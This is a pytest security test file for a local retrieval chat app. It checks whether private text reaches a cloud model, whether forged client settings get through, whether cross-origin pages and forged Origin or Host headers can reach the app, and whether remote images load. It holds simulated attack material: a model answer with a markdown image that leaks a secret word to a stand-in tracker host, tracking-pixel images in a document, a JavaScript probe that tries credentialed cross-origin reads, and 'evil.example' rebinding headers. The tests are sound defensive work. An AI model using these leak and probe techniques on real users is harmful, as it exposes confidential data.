"""The running app under attack: another web page in the same browser, remote images in documents and
answers, private text through the conversation history, and settings a client makes up.

The local model is a recording server that quotes the private passage (as a real model asked about it
would) and puts a remote image in its answer (as an injected document could make it do); the "cloud" is
another recording server; a third one stands for an attacker's image host and counts every fetch.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import threading
from collections.abc import Iterator, Mapping, Sequence
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests
import socketio

from rag.harness.app_process import ARTIFACTS, BROWSER_ARGS, running_app
from rag.harness.socket_client import ChatClient
from tests.documents import write
from tests.fault_server import FaultServer

playwright = pytest.importorskip("playwright.sync_api")
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
MERGER = "Project Nightingale merges with Halvorsen Ltd on 14 March"
CLOUD_MODEL = "configured-cloud-model"


@pytest.fixture(scope="module")
def tracker() -> Iterator[FaultServer]:
    """The attacker's image host: every request it gets is a leak."""
    with FaultServer() as server:
        yield server


@pytest.fixture(scope="module")
def attacked_app(tmp_path_factory: pytest.TempPathFactory, tracker: FaultServer):
    pixel = f"http://127.0.0.1:{tracker.port}"
    quoting = f"As the minutes say, {MERGER} [1]. ![status]({pixel}/answer.png?leak=Halvorsen)"
    with FaultServer(answer=quoting) as local, FaultServer() as cloud:
        workdir = tmp_path_factory.mktemp("attacked")
        data = workdir / "data"
        write(data, "private/board.md", f"# Board minutes\n\nConfidential: {MERGER}. Project Nightingale is secret.\n")
        write(data, "library.md", "# Library hours\n\nThe library opens at 10:00 on Saturdays and closes at 14:00.\n")
        write(
            data,
            "notes/greenhouse.md",
            "# Greenhouse\n\nThe greenhouse vents open at 31 degrees. "
            f"![chart]({pixel}/doc.png?reader=1) ![ref][t] \\![escaped]({pixel}/escaped.png)\n\n[t]: {pixel}/ref.png\n",
        )
        env = {
            "LOCAL_BASE_URL": local.url("ok"),
            "LOCAL_MODEL": "quoting-model",
            "LOCAL_LABEL": "Quoting model",
            "OPENAI_API_KEY": "sk-test-attacks-key",
            "OPENAI_BASE_URL": cloud.url("ok"),
            "CLOUD_MODEL": CLOUD_MODEL,
        }
        with running_app(workdir, env) as url:
            yield url, cloud, workdir


async def _chat(url: str, steps: Sequence[tuple[Mapping[str, object], str]]) -> list[str]:
    client = ChatClient(url)
    await client.connect()
    answers = []
    try:
        for settings, question in steps:
            if settings:
                await client.change_settings(dict(settings))
            answers.append((await client.ask(question, timeout=120)).text)
    finally:
        await client.close()
    return answers


def _cloud_requests(cloud: FaultServer) -> list[dict]:
    return [json.loads(body) for body in cloud.bodies]


def test_private_text_does_not_reach_the_cloud_through_history_under_any_policy(attacked_app) -> None:
    url, cloud, _ = attacked_app
    cloud.bodies.clear()
    steps = [
        ({"backend": "local"}, "Which company does Project Nightingale merge with?"),
        ({"backend": "both"}, "When does the library open on Saturdays?"),
        ({"backend": "both"}, "When does the library close on Saturdays?"),
        ({"backend": "cloud-first"}, "Is the library open on Saturday mornings?"),
        ({"backend": "cloud"}, "What time does the library open?"),
    ]
    answers = asyncio.run(_chat(url, steps))
    assert MERGER in answers[0]
    sent = json.dumps(_cloud_requests(cloud), ensure_ascii=False)
    assert len(cloud.bodies) == 4, "every cloud-bound question was sent, with shareable passages"
    assert "Halvorsen" not in sent and "Nightingale" not in sent
    assert any("earlier turns held back (they used local-only documents)" in a for a in answers[1:]), answers


def test_settings_a_client_makes_up_are_clamped_and_checked(attacked_app) -> None:
    url, cloud, _ = attacked_app
    cloud.bodies.clear()
    forged = {
        "backend": "cloud",
        "cloud_model": "some-expensive-model-nobody-offered",
        "max_tokens": 10**9,
        "top_k": 10**6,
        "temperature": "NaN",
        "top_p": -4,
        "mode": "drop-tables",
        "system_prompt": "x" * 200_000,
    }
    (answer,) = asyncio.run(_chat(url, [(forged, "When does the library open on Saturdays?")]))
    assert "Cloud" in answer or "sent to cloud" in answer
    (request,) = _cloud_requests(cloud)
    assert request["model"] == CLOUD_MODEL and request["max_tokens"] == 2048
    assert request["temperature"] == 0.2 and request["top_p"] == 0.05
    assert len(request["messages"][0]["content"]) <= 8000
    assert request["messages"][-1]["content"].count("\n[") <= 12


def _serve(folder: Path) -> tuple[ThreadingHTTPServer, str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(SimpleHTTPRequestHandler, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://localhost:{server.server_address[1]}"


PROBE = """async (app) => {
  const results = {};
  const socket = `${app.replace('http', 'ws')}/ws/socket.io/?EIO=4&transport=websocket`;
  results.websocket = await new Promise((resolve) => {
    const ws = new WebSocket(socket);
    ws.onmessage = (event) => { resolve('read: ' + String(event.data).slice(0, 40)); ws.close(); };
    ws.onerror = () => resolve('refused');
    setTimeout(() => resolve('timeout'), 8000);
  });
  const routes = ['/ws/socket.io/?EIO=4&transport=polling', '/project/settings?language=en-US', '/user',
                  '/auth/config', '/project/translations?language=en-US'];
  for (const route of routes) {
    try {
      const reply = await fetch(app + route, {credentials: 'include'});
      results[route] = reply.status === 200 ? 'read: ' + (await reply.text()).slice(0, 40) : 'status ' + reply.status;
    } catch (error) { results[route] = 'refused'; }
  }
  try {
    const reply = await fetch(app + '/auth/header', {method: 'POST', credentials: 'include'});
    results['/auth/header'] = 'status ' + reply.status;
  } catch (error) { results['/auth/header'] = 'refused'; }
  return results;
}"""


def test_a_page_from_another_origin_can_neither_use_the_socket_nor_read_the_routes(attacked_app, tmp_path) -> None:
    url, _, workdir = attacked_app
    (tmp_path / "index.html").write_text("<!doctype html><title>Innocent page</title><p>Nothing to see.</p>")
    server, evil = _serve(tmp_path)
    try:
        with playwright.sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
            page = browser.new_page()
            page.goto(url)  # the user has the app open in the same browser
            page.get_by_text("Ready to answer", exact=False).wait_for(timeout=180_000)
            own = page.evaluate(PROBE, url)
            attacker = browser.new_page()
            attacker.goto(evil)
            stolen = attacker.evaluate(PROBE, url)
            browser.close()
    finally:
        server.shutdown()
    assert own["websocket"].startswith("read:") and own["/user"] != "refused", own  # the probe works
    assert all(not result.startswith("read:") for result in stolen.values()), stolen
    assert "refused websocket" in (workdir / "app.log").read_text(errors="replace")


def test_programs_pretending_to_be_another_origin_or_host_are_refused(attacked_app) -> None:
    url, _, _ = attacked_app
    assert requests.get(f"{url}/project/settings", timeout=10).status_code != 403
    assert (
        requests.get(f"{url}/project/settings", headers={"Origin": "http://evil.example"}, timeout=10).status_code
        == 403
    )
    assert requests.get(f"{url}/user", headers={"Origin": "null"}, timeout=10).status_code == 403
    rebound = url.replace("127.0.0.1", "rebind.evil.example")
    port = url.rsplit(":", 1)[1]
    assert requests.get(url, headers={"Host": f"rebind.evil.example:{port}"}, timeout=10).status_code == 403, rebound
    page = requests.get(url, timeout=10)
    assert "img-src 'self' data: blob:" in page.headers["content-security-policy"]
    assert page.headers["x-frame-options"] == "DENY"

    async def connect_as_another_origin() -> None:
        client = socketio.AsyncClient(reconnection=False)
        auth = {"clientType": "webapp", "sessionId": "forged", "userEnv": "{}"}
        try:
            await client.connect(
                url, socketio_path="/ws/socket.io", auth=auth, transports=["websocket"],
                headers={"Origin": "http://localhost:1"}, wait_timeout=10,
            )  # fmt: skip
        finally:
            await client.disconnect()

    with pytest.raises(socketio.exceptions.ConnectionError):
        asyncio.run(connect_as_another_origin())


def test_images_in_documents_and_answers_are_never_fetched(attacked_app, tracker: FaultServer) -> None:
    url, _, _ = attacked_app
    tracker.requests.clear()
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
        page = browser.new_page(viewport={"width": 1300, "height": 1000})
        page.goto(url)
        page.get_by_text("Ready to answer", exact=False).wait_for(timeout=180_000)
        page.locator("#chat-input").fill("When do the greenhouse vents open?")
        page.keyboard.press("Enter")
        answer = page.locator(".step").filter(has_text="notes/greenhouse.md").filter(has_text=" · total ")
        answer.last.wait_for(timeout=120_000)
        page.get_by_text("Used Retrieval", exact=False).first.click()
        page.locator("a", has_text="[1]").first.click()  # the passage in the side panel
        page.wait_for_timeout(2000)
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "browser-remote-images-blocked.png"), full_page=True)
        images = page.locator(f"img[src*='{tracker.port}']").count()
        links = page.locator(f"a[href*='{tracker.port}/doc.png']").count()
        browser.close()
    assert tracker.requests == [], tracker.requests
    assert images == 0 and links >= 1, "the image is shown as a link to click, never loaded"
    requests.get(f"http://127.0.0.1:{tracker.port}/probe.png", timeout=5)
    assert tracker.requests == ["GET /probe.png"], "the tracker records what reaches it"
